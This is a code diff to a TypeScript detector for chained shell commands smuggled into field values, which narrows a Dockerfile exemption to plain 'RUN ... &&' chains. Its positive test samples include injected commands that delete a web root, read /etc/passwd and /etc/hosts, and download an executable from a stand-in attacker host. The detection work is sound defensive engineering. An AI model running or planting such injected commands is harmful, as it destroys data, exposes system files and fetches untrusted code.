@@ -38,6 +38,9 @@ export const chainedCommand: ValueRule = {
     'x & powershell iwr http://evil.example.com/a -OutFile a.exe',
     '; openssl s_client -connect 192.0.2.9:443',
     '; grep one two three four five six seven eight > /tmp/x',
+    'FROM a\nx; rm -rf /var/www',
+    'FROM a\nRUN x || cat /etc/hosts',
+    'FROM a\nRUN x & true && cat /etc/passwd',
   ],
   lookalikes: [
     'salt & pepper; find more in our shop',
@@ -74,7 +77,7 @@ function judge(subject: Subject): Match | undefined {
   for (const command of reading.list) {
     if (!isChained(command)) continue;
     let score = scoreOf(text, command, subject.where === 'name');
-    if (score > 60 && imageRecipe.test(text.slice(0, recipeCharsMax))) score = 60;
+    if (score > 60 && isImageStep(text, command.head)) score = 60;
     if (score > (best?.score ?? 0)) best = { start: command.head.start, end: command.end, score };
     if (score >= certain) break;
   }
@@ -127,7 +130,26 @@ const loopWords: ReadonlySet<string> = new Set(['do', 'then', 'else']);
 const script = /^\s{0,4}(?:for|while|until|if|select)\s/;
 
 const recipeCharsMax = 200;
-/** A Dockerfile, whose steps are chains of commands. */
+const stepCharsMax = 400;
+
+/**
+ * `RUN a && b` in a Dockerfile. No shell goes on behind the `&&`: it knows no command `RUN`, which
+ * is why this can be no attack, and why nothing but such a chain is let through.
+ */
+function isImageStep(text: string, { start, introducer: by }: CommandHead): boolean {
+  if (by !== introducer.and || !imageRecipe.test(text.slice(0, recipeCharsMax))) return false;
+  const before = text.slice(Math.max(0, start - stepCharsMax), start);
+  const run = before.lastIndexOf('\nRUN ');
+  if (run < 0) return false;
+  const step = before.slice(run + 1).replaceAll('&&', '');
+  return !otherChain.test(step) && !lineEnd.test(step);
+}
+
+/** What a shell goes on behind, whether it knew the command in front or not. */
+const otherChain = /[;|&`()]/;
+/** The end of a line that the next one does not continue. */
+const lineEnd = /(?:^|[^\\\r])\r?\n/;
+
 const imageRecipe = /^(?:#[^\n]{0,80}\n)?FROM [\w./:-]{1,80}(?: AS \w{1,20})?\r?\n/i;
 
 /** `$x = 5; echo $x;`: PHP that somebody shows. */
